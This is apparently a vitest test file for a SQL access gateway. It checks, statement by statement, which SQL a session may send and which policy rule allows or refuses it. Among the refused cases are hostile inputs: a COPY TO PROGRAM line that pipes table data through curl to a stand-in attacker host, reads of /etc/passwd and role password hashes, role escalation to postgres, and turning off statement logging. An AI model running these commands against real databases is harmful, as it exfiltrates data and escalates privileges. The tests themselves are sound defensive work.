/**
 * SQL → classification → decision, end to end through the real parser, under the rules docs/gateway.md shows: a
 * wide table of what a session may send and what the gateway answers.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { decideStatements, type StatementContext } from '../../decide/gateway-statement.decide.js';
import { gatewayCondition as when } from '../../../test/factories/profile.factory.js';
import type { GatewayPolicy } from '../../policy/model.js';
import { classifySql, loadSqlParser } from './sql-classify.js';

beforeAll(async () => {
  await loadSqlParser();
});

/** The example of docs/policy.md: reads outside the catalog, transactions, no writes, no secrets. */
const POLICY: GatewayPolicy = {
  rules: [
    {
      name: 'no-secrets',
      when: when('statement.tables.exists(t, t.startsWith("secret"))'),
      deny: 'secret tables are off limits',
    },
    { name: 'reads', when: when('statement.readOnly && !("pg_catalog" in statement.schemas)'), allow: true },
    { name: 'transactions', when: when('statement.kind == "transaction"'), allow: true },
    {
      name: 'search-path',
      when: when('statement.kind == "session" && statement.settings == ["search_path"]'),
      allow: true,
    },
    {
      name: 'no-writes',
      when: when('statement.kind in ["insert", "update", "delete", "merge"]'),
      deny: 'writes need the run-sql action',
    },
  ],
  otherwise: 'deny',
  statementTimeoutSeconds: 30,
  masks: [],
};

const CONTEXT: StatementContext = {
  requester: { name: 'alice', kind: 'human', groups: [], attributes: {}, disabled: false },
  resource: { name: 'orders-db', profile: 'pg', labels: {}, connection: {}, attributes: {} },
  profile: { name: 'pg', classification: 'internal', environment: 'prod' },
  now: 0,
};

// [sql, allowed, the rule that decided (undefined: the default)]
const TABLE: readonly [string, boolean, string | undefined][] = [
  ['select * from orders where id = 1', true, 'reads'],
  ['SELECT count(*) FROM public.orders', true, 'reads'],
  ['select 1; select 2', true, 'reads'],
  ['begin; select * from orders; commit', true, 'reads'],
  ['show search_path', true, 'reads'],
  ['set search_path = app', true, 'search-path'],
  // Drivers restate the encoding and string syntax the gateway sets at login; any other value is refused.
  ["set client_encoding to 'UTF8'", true, 'reads'],
  ["SET NAMES 'utf-8'", true, 'reads'],
  ['set local client_encoding = unicode', true, 'reads'],
  ['set standard_conforming_strings = on', true, 'reads'],
  ["set client_encoding to 'SJIS'", false, 'gateway-settings'],
  ['set client_encoding = default', false, 'gateway-settings'],
  ['reset client_encoding', false, 'gateway-settings'],
  ["set client_encoding to 'UTF8', 'SJIS'", false, 'gateway-settings'],
  ['set standard_conforming_strings = off', false, 'gateway-settings'],
  ['set standard_conforming_strings = 0', false, 'gateway-settings'],
  ["select set_config('client_encoding', 'UTF8', false)", false, 'gateway-settings'],
  ['begin; delete from orders', false, 'no-writes'],
  ['start transaction isolation level serializable', true, 'reads'],
  ['explain select * from orders', true, 'reads'],
  ['copy orders to stdout', true, 'reads'],
  ['declare c cursor for select * from orders', true, 'reads'],
  ['fetch 10 from c', true, 'reads'],
  ['select * from secret_keys', false, 'no-secrets'],
  ['select * from orders o join secret_keys k on true', false, 'no-secrets'],
  ['select * from pg_catalog.pg_roles', false, undefined],
  ['select rolpassword from pg_authid', false, undefined],
  ['delete from orders', false, 'no-writes'],
  ['insert into orders values (1)', false, 'no-writes'],
  ['update orders set paid = true', false, 'no-writes'],
  ['truncate orders', false, 'no-writes'],
  ['with d as (delete from orders returning *) select * from d', false, 'no-writes'],
  ['explain analyze delete from orders', false, 'no-writes'],
  ['select * from orders for update', false, undefined],
  ["select nextval('orders_id_seq')", false, undefined],
  ['select my_function()', false, undefined],
  ['create table t (a int)', false, undefined],
  ['drop table orders', false, undefined],
  ['grant select on orders to public', false, undefined],
  ['copy orders from stdin', false, undefined],
  ['set statement_timeout = 0', false, 'gateway-settings'],
  ["select set_config('statement_timeout', '0', false)", false, 'gateway-settings'],
  ['reset all', false, 'gateway-settings'],
  ['discard all', false, 'gateway-settings'],
  ['set role postgres', false, 'role-change'],
  ['reset role', false, 'role-change'],
  ['select 1; reset role', false, 'role-change'],
  ['set session authorization postgres', false, 'role-change'],
  ["select set_config('role', 'postgres', false)", false, 'role-change'],
  ["alter role current_user password 'mine-now'", false, 'role-change'],
  ["copy orders to program 'curl -d @- evil.example'", false, 'copy-program'],
  ["copy orders to '/tmp/orders.csv'", false, 'copy-file'],
  ["select pg_read_file('/etc/passwd')", false, 'outside-function'],
  ["alter system set log_statement = 'none'", false, 'alter-system'],
  ["load 'auto_explain'", false, 'load'],
  ['do $$ begin perform 1; end $$', false, 'opaque-code'],
  ['create extension dblink', false, 'extension'],
  ['select 1 +', false, 'unparsable'],
  // Cursors are reads, but not under the names of the portal the gateway fails a refused batch in.
  ['declare c cursor with hold for select 1', true, 'reads'],
  ['declare "countersign.refused-statement" cursor with hold for select 1', false, 'gateway-names'],
  ['fetch 1 from "Countersign.x"', false, 'gateway-names'],
  ['move all in "countersign.x"', false, 'gateway-names'],
  ['close "countersign.x"', false, 'gateway-names'],
];

describe('statements through the gateway, from SQL to decision', () => {
  it.each(TABLE)('%s → allowed %s by %s', (sql, allowed, rule) => {
    const decision = decideStatements(POLICY, classifySql(sql), CONTEXT);
    expect(decision.allowed).toBe(allowed);
    expect(decision.rule).toBe(rule);
    if (!allowed) expect(decision.message).toMatch(/refused/);
  });
});
